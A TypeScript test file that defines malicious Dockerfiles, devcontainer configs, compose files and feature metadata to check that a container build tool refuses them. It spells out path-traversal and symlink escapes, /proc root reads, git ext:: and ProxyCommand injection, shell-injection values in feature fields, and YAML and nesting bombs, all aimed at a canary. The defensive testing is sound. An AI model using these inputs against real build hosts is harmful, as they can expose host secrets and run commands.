import { join } from 'node:path';
import { put } from '../layouts.ts';
import { moreThanDisk, moreTogether, NOT_DOCKER } from '../sparse-size.ts';
import type { Kind, Must } from '../types.ts';
import type { TreeInput } from './places.ts';

type Files = Readonly<Record<string, string | object | (() => string)>>;

const DOCKERFILE = 'FROM scratch\nCOPY a /probe-a\n';

/** A workspace of these files. `@CANARY@` and `@UP@` stand for the canary, absolute and by a way up that fits anywhere. */
function tree(name: string, must: Must, files: Files, args: readonly string[]): Kind<TreeInput> {
  return {
    name,
    must,
    make: () => ({
      args,
      git: true,
      write: (dir, { canary }) => {
        for (const [path, content] of Object.entries({ a: 'hi\n', Dockerfile: DOCKERFILE, ...files })) {
          const given: unknown = typeof content === 'function' ? (content as () => string)() : content;
          const text = typeof given === 'string' ? given : JSON.stringify(given);
          const up = `${'../'.repeat(16)}${canary.slice(1)}`;
          put(join(dir, path), text.replaceAll('@CANARY@', canary).replaceAll('@UP@', up));
        }
      },
    }),
  };
}

const docker = (name: string, must: Must, lines: string, more: Files = {}): Kind<TreeInput> =>
  tree(`docker-${name}`, must, { Dockerfile: lines, ...more }, []);
const dev = (
  name: string,
  must: Must,
  config: string | object | (() => string),
  more: Files = {},
): Kind<TreeInput> =>
  tree(
    `dev-${name}`,
    must,
    {
      '.devcontainer/devcontainer.json': config,
      ...more,
    },
    ['--devcontainer'],
  );
const composed = { dockerComposeFile: 'compose.yaml', service: 'app', workspaceFolder: '/w' };
const compose = (
  name: string,
  must: Must,
  service: unknown,
  more: Files = {},
  top: object = {},
): Kind<TreeInput> =>
  dev(`compose-${name}`, must, composed, {
    '.devcontainer/compose.yaml':
      typeof service === 'string' ? service : JSON.stringify({ services: { app: service }, ...top }),
    ...more,
  });
const build = { dockerfile: '../Dockerfile', context: '..' };
const own = { build };
const from = { build: { context: '..' } };
const feature = (name: string, must: Must, metadata: unknown, more: Files = {}): Kind<TreeInput> =>
  dev(
    `feature-${name}`,
    must,
    { ...own, features: { './f': {} } },
    {
      '.devcontainer/f/devcontainer-feature.json':
        typeof metadata === 'string' ? metadata : JSON.stringify(metadata),
      '.devcontainer/f/install.sh': '#!/bin/sh\ntrue\n',
      ...more,
    },
  );
const named = { id: 'f', version: '1.0.0', name: 'f' };
const ADD = `${DOCKERFILE}ADD`;
const holes = (path: string, size = moreThanDisk()): string => `busybox truncate -s ${size} ${path}`;
/** A stage that makes sparse files, and what is done with it. */
const sparse = (name: string, lines: string): Kind<TreeInput> => ({
  ...docker(`sparse-${name}`, 'refuse', `FROM @BUSYBOX@ AS s\n${lines}\nCOPY a /probe-a\n`),
  notDocker: NOT_DOCKER,
});

/** Dockerfiles, devcontainer.json, compose files, features and ignore files that mean ill. */
export const definitions: readonly Kind<TreeInput>[] = [
  docker('honest', 'build', DOCKERFILE),
  docker('copy-up', 'refuse', 'FROM scratch\nCOPY @UP@/secret /x\n'),
  sparse('run', `RUN ${holes('/x')}`),
  sparse('copy-from', `RUN ${holes('/x')}\nFROM scratch\nCOPY --from=s /x /x`),
  sparse('mount-from', `RUN ${holes('/x')}\nFROM @BUSYBOX@\nRUN --mount=from=s,target=/m true`),
  sparse('cache-seed', `RUN ${holes('/x')}\nFROM @BUSYBOX@\nRUN --mount=type=cache,from=s,target=/m true`),
  sparse(
    'run-many',
    `RUN for i in $(busybox seq 1 ${moreTogether().count}); do ${holes('/x$i', moreTogether().size)}; done`,
  ),
  docker('copy-canary', 'refuse', 'FROM scratch\nCOPY @CANARY@/secret /x\n'),
  docker('copy-glob-up', 'refuse', 'FROM scratch\nCOPY @UP@/s* /x/\n'),
  docker('copy-to-up', 'build', 'FROM scratch\nCOPY a @UP@/new\nCOPY a /probe-a\n'),
  docker('copy-to-canary', 'build', 'FROM scratch\nCOPY a @CANARY@/new\nCOPY a /probe-a\n'),
  docker('workdir-up', 'build', 'FROM scratch\nWORKDIR @UP@/new\nCOPY a /probe-a\n'),
  docker('add-url-file', 'refuse', 'FROM scratch\nADD file://@CANARY@/secret /x\n'),
  docker('add-git-file', 'refuse', 'FROM scratch\nADD file://@CANARY@.git /x\n'),
  docker('add-git-ext', 'refuse', 'FROM scratch\nADD ext::sh\\ -c\\ touch\\ @CANARY@/new.git /x\n'),
  docker('add-git-option', 'refuse', 'FROM scratch\nADD git@--upload-pack=x:y.git /x\n'),
  docker('add-git-host-option', 'refuse', 'FROM scratch\nADD ssh://-oProxyCommand=touch@h/x.git /x\n'),
  docker('add-http-nowhere', 'refuse', 'FROM scratch\nADD http://127.0.0.1:1/x /x\n'),
  docker('add-checksum-bad', 'refuse', 'FROM scratch\nADD --checksum=sha256:xyz http://127.0.0.1:1/x /x\n'),
  docker('bind-up', 'refuse', 'FROM @BUSYBOX@\nRUN --mount=type=bind,source=@UP@,target=/m cat /m/secret\n'),
  docker(
    'bind-canary',
    'refuse',
    'FROM @BUSYBOX@\nRUN --mount=type=bind,source=@CANARY@,target=/m cat /m/secret\n',
  ),
  docker(
    'bind-target-up',
    'build',
    'FROM @BUSYBOX@\nCOPY a /probe-a\nRUN --mount=type=bind,target=@UP@/m,rw touch /x\n',
  ),
  docker(
    'bind-from-link',
    'either',
    'FROM scratch AS s\nCOPY a /probe-a\nFROM @BUSYBOX@\nCOPY a /probe-a\nRUN --mount=type=bind,from=s,source=@UP@,target=/m cat /m/secret\n',
  ),
  docker(
    'cache-id-up',
    'build',
    'FROM @BUSYBOX@\nCOPY a /probe-a\nRUN --mount=type=cache,id=@UP@/new,target=/c touch /c/x\n',
  ),
  docker(
    'cache-target-link',
    'build',
    'FROM @BUSYBOX@\nCOPY a /probe-a\nRUN ["/bin/busybox","ln","-s","@CANARY@","/c"]\nRUN --mount=type=cache,target=/c touch /c/new\n',
  ),
  docker(
    'tmpfs-target-link',
    'build',
    'FROM @BUSYBOX@\nCOPY a /probe-a\nRUN ["/bin/busybox","ln","-s","@CANARY@","/c"]\nRUN --mount=type=tmpfs,target=/c/new touch /c/new/x\n',
  ),
  docker(
    'secret-target-link',
    'build',
    'FROM @BUSYBOX@\nCOPY a /probe-a\nRUN ["/bin/busybox","ln","-s","@CANARY@","/run"]\nRUN --mount=type=secret,id=no,required=false touch /x\n',
  ),
  docker(
    'copy-from-stage-link',
    'either',
    'FROM @BUSYBOX@ AS s\nRUN ["/bin/busybox","ln","-s","@CANARY@","/l"]\nFROM scratch\nCOPY a /probe-a\nCOPY --from=s /l/secret /x\n',
  ),
  docker(
    'copy-onto-stage-link',
    'build',
    'FROM @BUSYBOX@\nRUN ["/bin/busybox","ln","-s","@CANARY@","/l"]\nCOPY a /l/new\nCOPY a /probe-a\n',
  ),
  docker(
    'run-mknod',
    'build',
    'FROM @BUSYBOX@\nCOPY a /probe-a\nRUN ["/bin/busybox","mknod","/sda","b","8","0"]\n',
  ),
  docker(
    'run-proc-root',
    'build',
    'FROM @BUSYBOX@\nCOPY a /probe-a\nRUN cat /proc/1/root@CANARY@/secret /proc/self/root@CANARY@/secret; true\n',
  ),
  docker(
    'run-escape-cgroup',
    'build',
    'FROM @BUSYBOX@\nCOPY a /probe-a\nRUN cd / && ["/bin/busybox"] ; busybox chroot . /bin/sh -c "cd ..; cat .@CANARY@/secret"; true\n',
  ),
  docker('run-background', 'build', 'FROM @BUSYBOX@\nCOPY a /probe-a\nRUN busybox sleep 1000 & true\n'),
  docker(
    'run-own-passwd',
    'either',
    'FROM @BUSYBOX@\nRUN ["/bin/busybox","sh","-c","rm /etc/passwd; busybox mkfifo /etc/passwd"]\nCOPY --chown=who a /x\n',
  ),
  {
    ...docker(
      'run-own-group-link',
      'either',
      'FROM @BUSYBOX@\nRUN ["/bin/busybox","ln","-sf","@CANARY@/secret","/etc/group"]\nCOPY --chown=root:who a /x\n',
    ),
    notDocker: 'a group that the image does not know is refused (docs/differences.md)',
  },
  docker(
    'run-resolv-link',
    'either',
    'FROM @BUSYBOX@\nCOPY a /probe-a\nRUN ["/bin/busybox","ln","-sf","@CANARY@/new","/etc/resolv.conf"]\nRUN touch /y\n',
  ),
  docker(
    'run-hosts-fifo',
    'either',
    'FROM @BUSYBOX@\nCOPY a /probe-a\nRUN ["/bin/busybox","mkfifo","/etc/hosts"]\nRUN touch /y\n',
  ),
  docker('from-canary', 'refuse', 'FROM @CANARY@\n'),
  docker('from-up', 'refuse', 'FROM ../../x\n'),
  docker('from-control', 'refuse', 'FROM a\x1b[2Jb\n'),
  docker('from-8000', 'refuse', `FROM ${'a'.repeat(8000)}\n`),
  docker('nul', 'refuse', 'FROM scratch\nCOPY a\0 /x\n'),
  docker(
    'variables-deep',
    'build',
    `FROM scratch\nARG A=x\nENV B=${'${A:-'.repeat(3000)}x${'}'.repeat(3000)}\nCOPY a /probe-a\n`,
  ),
  {
    ...docker(
      'variables-doubling',
      'either',
      `FROM scratch\nARG A0=xxxxxxxxxx\n${Array.from({ length: 40 }, (_, i) => `ARG A${i + 1}=$A${i}$A${i}\n`).join('')}COPY a /probe-a\nENV X=$A40\n`,
    ),
    notDocker: 'Docker takes all the memory that there is',
  },
  docker(
    'pattern-slow',
    'build',
    `FROM scratch\nARG A=${'a'.repeat(2000)}\nENV B=\${A##${'*a'.repeat(40)}b}\nCOPY a /probe-a\n`,
  ),
  docker('heredoc-unended', 'refuse', 'FROM scratch\nCOPY <<E /x\nabc\n'),
  docker('heredoc-name-canary', 'build', 'FROM scratch\nCOPY a /probe-a\nCOPY <<../../x /y/\nabc\n../../x\n'),
  docker('continuations', 'build', `FROM scratch\nCOPY a \\\n${'\\\n'.repeat(100_000)} /probe-a\n`),
  docker('lines-200000', 'build', `FROM scratch\nCOPY a /probe-a\n${'LABEL a=b\n'.repeat(20_000)}`),
  docker(
    'stages-1000',
    'build',
    `${Array.from({ length: 1000 }, (_, i) => `FROM ${i ? `s${i - 1}` : 'scratch'} AS s${i}\n`).join('')}COPY a /probe-a\n`,
  ),
  docker(
    'stage-circle',
    'refuse',
    'FROM scratch AS x\nCOPY --from=y a /\nFROM scratch AS y\nCOPY --from=x a /\n',
  ),
  docker('json-deep', 'build', `FROM scratch\nCOPY a /probe-a\nCMD ${'['.repeat(50_000)}\n`),
  docker('syntax-frontend', 'either', '# syntax=evil.example/frontend:1\nFROM scratch\nCOPY a /probe-a\n'),
  docker('ignore-slow', 'build', DOCKERFILE, {
    '.dockerignore': `${'*'.repeat(200)}a${'*a'.repeat(30)}b\n**/**/**/**/**/x\n`,
    ['n'.repeat(200)]: 'x',
    [`${'d/'.repeat(60)}aaaaaaaaaaaaaaaaaaaaaaaaaaaa`]: 'x',
  }),
  docker('ignore-bad', 'either', DOCKERFILE, { '.dockerignore': '[\n[a-\n\\\n!\n!!\n../../x\n/@CANARY@\n' }),
  docker('ignore-100000', 'either', DOCKERFILE, { '.dockerignore': 'x*y?z\n'.repeat(50_000) }),
  docker('copy-glob-slow', 'build', `FROM scratch\nCOPY a /probe-a\nCOPY ${'*a'.repeat(40)}b* /x/\n`, {
    ['a'.repeat(200)]: 'x',
  }),
  dev('honest', 'build', own),
  dev('not-json', 'refuse', '{"build": {'),
  dev('null', 'refuse', 'null'),
  dev('list', 'refuse', '[]'),
  dev('deep', 'refuse', '['.repeat(200_000)),
  dev(
    'deep-inside',
    'either',
    `{"build":${JSON.stringify(build)},"customizations":${'{"a":'.repeat(2000)}1${'}'.repeat(2000)}}`,
  ),
  dev('proto', 'either', `{"__proto__":{"image":"x"},"constructor":{},"build":${JSON.stringify(build)}}`),
  dev('20-mb', 'either', () => JSON.stringify({ ...own, x: 'x'.repeat(20_000_000) })),
  dev('comments', 'either', `${'/* x */'.repeat(100_000)}{"build":${JSON.stringify(build)}}`),
  dev('context-up', 'refuse', { build: { dockerfile: '../Dockerfile', context: '@UP@' } }),
  dev('context-canary', 'refuse', { build: { dockerfile: '../Dockerfile', context: '@CANARY@/dir' } }),
  dev('dockerfile-up', 'refuse', { build: { dockerfile: '@UP@/Dockerfile', context: '..' } }),
  dev('dockerfile-canary', 'refuse', { build: { dockerfile: '@CANARY@/Dockerfile', context: '..' } }),
  dev('old-dockerfile-up', 'refuse', { dockerFile: '@UP@/Dockerfile', context: '..' }),
  dev('old-context-up', 'refuse', { dockerFile: '../Dockerfile', context: '@UP@/dir' }),
  dev('context-number', 'refuse', { build: { dockerfile: '../Dockerfile', context: 5 } }),
  dev('context-nul', 'refuse', { build: { dockerfile: '../Dockerfile', context: '..\0' } }),
  dev('context-variable', 'either', {
    build: { dockerfile: '../Dockerfile', context: '${localEnv:HOME}/..' },
  }),
  dev('options-context', 'either', {
    build: {
      ...build,
      options: ['--build-context', 'x=@CANARY@/dir', '--secret', 'id=s,src=@CANARY@/secret'],
    },
  }),
  dev('options-file', 'either', {
    build: {
      ...build,
      options: [
        '--file=@CANARY@/Dockerfile',
        '-o',
        '@CANARY@/out',
        '--output=@CANARY@/new',
        '--metadata-file=@CANARY@/new',
        '--iidfile',
        '@CANARY@/new',
      ],
    },
  }),
  dev('options-work', 'either', {
    build: { ...build, options: ['--work-dir=@CANARY@', '--layer-cache-dir=@CANARY@/new'] },
  }),
  dev('cache-from', 'either', {
    build: { ...build, cacheFrom: ['type=local,src=@CANARY@', '@CANARY@', 'type=registry,ref=../../x'] },
  }),
  dev('args-types', 'either', { build: { ...build, args: { A: 5, B: null, C: ['x'] } } }),
  dev('target-option', 'either', { build: { ...build, target: '--help' } }),
  dev('image-canary', 'refuse', { image: '@CANARY@' }),
  dev('image-number', 'refuse', { image: 5 }),
  dev('remote-user', 'either', { ...own, remoteUser: '../../x', containerUser: '\0' }),
  dev('workspace-folder', 'either', {
    ...own,
    workspaceFolder: '@UP@',
    workspaceMount: 'source=@CANARY@,target=/w,type=bind',
  }),
  dev('mounts', 'either', { ...own, mounts: ['source=@CANARY@,target=/m,type=bind', { source: 5 }] }),
  dev('env-odd', 'either', {
    ...own,
    containerEnv: { 'A=B': 'x', '': 'y', C: '\0' },
    remoteEnv: { D: null },
  }),
  dev('substitute-loop', 'either', {
    ...own,
    containerEnv: { A: '${containerEnv:A}${containerEnv:B}', B: '${containerEnv:A}' },
  }),
  dev('substitute-deep', 'either', { ...own, containerEnv: { A: '${localEnv:'.repeat(20_000) } }),
  dev('features-list', 'refuse', { ...own, features: ['x'] }),
  dev('features-up', 'refuse', { ...own, features: { '../../../../../x': {} } }),
  dev('features-canary', 'refuse', { ...own, features: { './@UP@': {} } }),
  dev('features-absolute', 'refuse', { ...own, features: { '@CANARY@/dir': {} } }),
  dev('features-url-file', 'refuse', { ...own, features: { 'file://@CANARY@/secret.tgz': {} } }),
  dev('features-url-nowhere', 'refuse', { ...own, features: { 'https://127.0.0.1:1/x.tgz': {} } }),
  dev('features-id-odd', 'refuse', { ...own, features: { 'a\nb/c/d:1': {}, '../../x/y:1': {} } }),
  dev('features-1000', 'either', {
    ...own,
    features: Object.fromEntries(Array.from({ length: 1000 }, (_, i) => [`./f${i}`, {}])),
  }),
  dev('hooks-types', 'either', {
    ...own,
    onCreateCommand: 5,
    postCreateCommand: { a: { b: 1 } },
    postStartCommand: [5],
  }),
  dev(
    'lockfile-odd',
    'either',
    { ...own, features: { 'example.invalid/a/b:1': {} } },
    {
      '.devcontainer/devcontainer-lock.json': {
        features: { 'example.invalid/a/b:1': { resolved: 5, integrity: '../../x' } },
      },
    },
  ),
  dev('name-marker', 'either', { ...own, name: '\x1b]0;evil\x07\x1b[2J' }),
  compose('honest', 'build', from),
  compose('not-yaml', 'refuse', ': : :\n\t- x'),
  compose(
    'bomb',
    'either',
    `a: &a [x,x,x,x,x,x,x,x,x]\n${Array.from({ length: 9 }, (_, i) => `${'bcdefghij'[i]}: &${'bcdefghij'[i]} [${Array.from({ length: 9 }, () => `*${'abcdefghi'[i]}`).join()}]\n`).join('')}services: {app: {build: {context: ".."}, x: *j}}\n`,
  ),
  compose('deep', 'either', `services: ${'['.repeat(50_000)}`),
  compose(
    'merge-deep',
    'either',
    `x: &x {a: 1}\nservices:\n  app:\n    <<: [${Array.from({ length: 5000 }, () => '*x').join()}]\n    build: {context: ".."}\n`,
  ),
  compose('tag', 'either', 'services:\n  app: !!js/function "x"\n'),
  compose('alias-self', 'either', 'services: &s\n  app: *s\n'),
  compose('10-mb', 'either', `services: {app: {build: {context: ".."}}}\n${'# x\n'.repeat(2_500_000)}`),
  compose('context-up', 'refuse', { build: { context: '@UP@', dockerfile: 'Dockerfile' } }),
  compose('context-canary', 'refuse', { build: { context: '@CANARY@' } }),
  compose('context-short', 'refuse', { build: '@UP@' }),
  compose('dockerfile-up', 'refuse', { build: { context: '..', dockerfile: '@UP@/Dockerfile' } }),
  compose('dockerfile-canary', 'refuse', { build: { context: '..', dockerfile: '@CANARY@/Dockerfile' } }),
  compose('dockerfile-inline', 'either', {
    build: { context: '..', dockerfile_inline: 'FROM scratch\nCOPY @UP@/secret /x\n' },
  }),
  compose('additional-contexts', 'refuse', {
    build: { context: '..', additional_contexts: { x: '@CANARY@/dir' } },
  }),
  compose('additional-contexts-up', 'refuse', {
    build: { context: '..', additional_contexts: ['x=@UP@/dir'] },
  }),
  compose('env-file-up', 'refuse', { ...from, env_file: '@UP@/env' }),
  compose('env-file-canary', 'refuse', { ...from, env_file: [{ path: '@CANARY@/env', required: false }] }),
  compose('label-file', 'either', { ...from, label_file: '@CANARY@/env' }),
  compose('extends-up', 'refuse', { extends: { file: '@UP@/secret', service: 'app' } }),
  compose('extends-canary', 'refuse', { extends: { file: '@CANARY@/secret', service: 'app' } }),
  compose('extends-self', 'refuse', { extends: { service: 'app' } }),
  compose('extends-circle', 'refuse', { extends: { file: 'compose.yaml', service: 'app' } }),
  compose(
    'include',
    'either',
    from,
    {},
    { include: ['@CANARY@/secret', { path: '@UP@/secret', env_file: '@UP@/env' }] },
  ),
  compose(
    'secrets-file',
    'either',
    { build: { context: '..', secrets: ['s'] } },
    {},
    { secrets: { s: { file: '@CANARY@/secret' } } },
  ),
  compose(
    'secrets-file-up',
    'either',
    { build: { context: '..', secrets: ['s'] } },
    {},
    { secrets: { s: { file: '@UP@/secret' } } },
  ),
  compose(
    'configs-file',
    'either',
    { ...from, configs: ['c'] },
    {},
    { configs: { c: { file: '@CANARY@/secret' } } },
  ),
  compose('ssh', 'either', { build: { context: '..', ssh: ['default=@CANARY@/secret'] } }),
  compose('cache-local', 'either', {
    build: {
      context: '..',
      cache_from: ['type=local,src=@CANARY@'],
      cache_to: ['type=local,dest=@CANARY@/new'],
    },
  }),
  compose('volumes', 'either', {
    ...from,
    volumes: ['@CANARY@:/m', { type: 'bind', source: '@UP@', target: '/m' }],
  }),
  compose(
    'file-list-up',
    'refuse',
    { ...from },
    {
      '.devcontainer/devcontainer.json': { ...composed, dockerComposeFile: ['compose.yaml', '@UP@/secret'] },
    },
  ),
  compose(
    'file-canary',
    'refuse',
    { ...from },
    { '.devcontainer/devcontainer.json': { ...composed, dockerComposeFile: '@CANARY@/secret' } },
  ),
  compose('interpolation', 'either', { build: { context: '..', args: { A: '${A:-${B:-${C:-${D:?x}}}}' } } }),
  compose('interpolation-deep', 'either', { build: { context: '..', args: { A: '${A:-'.repeat(20_000) } } }),
  compose('env-bad', 'either', from, { '.devcontainer/.env': 'A="unended\nB=\0\n=x\nC=${C}${C}\n' }),
  feature('honest', 'refuse', named),
  feature('null', 'refuse', 'null'),
  feature('deep', 'refuse', '{"a":'.repeat(100_000)),
  feature('deep-files', 'refuse', named, { [`.devcontainer/f/${'d/'.repeat(1500)}f`]: 'deep' }),
  feature('id-up', 'refuse', { id: '../../../x', version: '1.0.0' }),
  feature('id-shell', 'refuse', {
    id: '$(touch @CANARY@/new)',
    version: '1.0.0',
    name: '"; touch @CANARY@/new; "',
  }),
  feature('options', 'refuse', {
    id: 'f',
    version: '1',
    options: { 'a;touch @CANARY@/new': { type: 'string', default: '`touch @CANARY@/new`' }, b: 5 },
  }),
  feature('self', 'refuse', { id: 'f', version: '1', dependsOn: { './f': {} } }),
  feature('depends-up', 'refuse', { id: 'f', version: '1', dependsOn: { '../../../../../../x': {} } }),
  feature('env', 'refuse', {
    id: 'f',
    version: '1',
    containerEnv: { 'A\nRUN touch @CANARY@/new': 'x', B: '\nRUN touch @CANARY@/new' },
  }),
  tree('add-tar-up', 'either', { Dockerfile: `${ADD} . /ctx/\n`, [`${'d/'.repeat(150)}f`]: 'deep' }, []),
];
